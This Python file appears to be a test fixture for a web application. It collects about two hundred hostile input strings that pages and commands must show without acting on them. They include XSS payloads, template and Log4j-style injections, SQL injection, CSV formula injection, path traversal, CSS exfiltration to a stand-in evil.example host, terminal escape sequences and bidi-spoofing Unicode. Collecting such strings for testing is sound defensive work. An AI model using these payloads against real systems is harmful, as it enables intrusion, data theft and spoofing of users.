"""Two hundred texts that somebody hostile would write: what every page and every command must show and do nothing with.

ASCII in the source: whatever hides or steers is written as its number.
"""

from __future__ import annotations

import re

SCRIPT = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT>alert`1`</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>", "<script/x>alert(1)</script>",
    "<script/\u00a0>alert(1)</script>", "<svg><script>alert(1)</script></svg>",
    "<script type=module>import('//evil')",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
)  # fmt: skip
HANDLERS = (
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "' onfocus='alert(1)' autofocus='", '" onmouseover="alert(1)', "` onerror=`alert(1)", "<a onclick=alert(1)>x</a>",
    "<div style=animation-name:x onanimationstart=alert(1)>", "<select onfocus=alert(1) autofocus>",
    "<form><button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>",
    "<xss onpointerenter=alert(1)>",
    "x\" hx-get=\"//evil.example\" hx-trigger=\"load", "<b hx-on:load=alert(1) hx-trigger=load>x</b>",
)  # fmt: skip
MARKUP = (
    "<h1>Freehold</h1>", "</title><h1>x", "</textarea><h4>x</h4>", "</option></select><h4>x", "</pre><h4>x</h4>",
    "<!--", "-->", "<!-- --!><h4>x", "]]>", "<![CDATA[<h4>x]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=passphrase>", "</form><form action=//evil.example>",
    "<input type=hidden name=page_token value=x>", "<button name=step value=sign>Sign</button>",
    "<math><mtext></mtext><mglyph><style><img src=x>", "<template><h4>x</h4></template>", "<slot name=x>",
    "<plaintext>", "<xmp><h4>x", "<table><td><h4>x", "<frameset>", "<dialog open>Sign here</dialog>",
    "<p data-live=contract>x</p>", "<div id=main>x</div>", "&lt;b&gt;", "&#60;h4&#62;", "&#x3c;h4&#x3e;",
    "&amp;lt;h4&gt;",
    "&nbsp;&shy;&zwj;", "<b", "<", ">", "&", '"', "'", "`", "</", "<>", "<<h4>>", "\\x3ch4\\x3e", "\\u003ch4\\u003e",
)  # fmt: skip
TEMPLATES = (
    "{{ 70707 * 3 }}", "{{7*'7'}}", "{% include '/etc/passwd' %}", "{% raw %}", "{% endblock %}", "{# no #}",
    "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}", "${70707*3}", "#{70707*3}",
    "<%= 70707*3 %>", "%(name)s %s %d %%", "%n%n%n", "{0.__class__}", "{name!r:>1000000}", "$(id)", "`id`", "$HOME",
    "${jndi:ldap://evil.example/x}",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(2)", "java&#x09;script:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "https://evil.example/", "//evil.example/", "<a href=//evil.example>x</a>",
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "mailto:x@evil.example?bcc=y", "file:///etc/passwd",
    "http://127.0.0.1:4017/login?code=x", "http://[::1]/", "https://evil.example@freehold/", "tel:+1900",
)  # fmt: skip
STYLES = (
    "<style>*{display:none}</style>", "</style><h4>x", "x;background:url(//evil.example/x)", "expression(alert(1))",
    "<p style=position:fixed;inset:0>x</p>", "@import url(//evil.example/x.css);", "-moz-binding:url(//evil.example)",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
)  # fmt: skip
INVISIBLE = (
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066\u2067left\u2069\u2069", "\u200fabc\u200e", "\u061cabc", "\u202e" * 60,
    "pay\u200bpal", "a\u200c\u200db", "\ufeffabc", "a\u2060b", "a\u00adb", "a\u034fb", "a\u180eb", "\u3164x",
    "\u115fx",
    "a" + "".join(map(chr, range(0xE0041, 0xE0050))), "a\ufe0f\U000e0100", "\u2800x", "\ufff9a\ufffab\ufffb",
    "\u206a\u206fx",
)  # fmt: skip
LETTERS = (
    "\u0430pple", "\uff1cscript\uff1e", "\ufe64script\ufe65", "\u2039script\u203a", "Z" + "\u0300" * 50,
    "".join(letter + "\u0e47\u0e49" * 5 for letter in "abc"),
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\U0001f1e9" * 9, "\u0644\u0644\u0651\u0671", "\ufdfa" * 10, "\u212a",
    "\u0130i\u0131", "\ufb03", "\U00012019" * 10, "\U0010fffd", "\ufffd\ufffe", "W" * 60, "\u2588" * 60,
    "a\u20dd\u20e0b",
)  # fmt: skip
QUERIES = (
    "' OR 1=1 --", "'; DROP TABLE records; --", '" OR ""="', "1 UNION SELECT * FROM keys", "x' AND 'x' MATCH 'y",
    'title:"x" NEAR/2 y', "NEAR(a b, 1)", "a AND OR NOT b", "^a * ( ) - :", '"unclosed', "skills : x*", "a{b}c",
    "%' ESCAPE '\\", "x'00'", "-1", "NaN", "null", "undefined", "true", "0x7fffffff",
)  # fmt: skip
FILES = (
    "=HYPERLINK(\"//evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "a,b;c", 'a","b', "../../etc/passwd",
    "..\\..\\windows", "/etc/passwd", "CON", "nul.txt", "~root", "file\u2024txt", "a/b\u2215c", "%2e%2e%2f", "%00",
    "%0d%0aSet-Cookie: x=1",
    "C:\\x", "-rf", "--help",
)  # fmt: skip
CONTROLS = (
    "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x1b]8;;//evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1bP+q\x1b\\", "\x9b31m",
    "\x9d0;x\x9c",
    "a\x00b", "\x08\x08\x08x", "a\rb", "a\x0bb\x0cc", "\x7f", "\x85x", "a\u2028b", "a\u2029b", "\x1b[?1049h",
    "\x1b]52;c;eA==\x07",
)  # fmt: skip
"""What no record may hold: refused where it is typed, and by everybody's node."""
UNPAIRED = ("\ud800", "a\udfffb", "\udc80\udc81", "\ud83d", "\udbff x")
"""What no UTF-8 can say."""
WRITABLE = (*SCRIPT, *HANDLERS, *MARKUP, *TEMPLATES, *LINKS, *STYLES, *INVISIBLE, *LETTERS, *QUERIES, *FILES)
ALL = (*WRITABLE, *CONTROLS, *UNPAIRED)
STEERING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""What turns the direction of the text around it."""
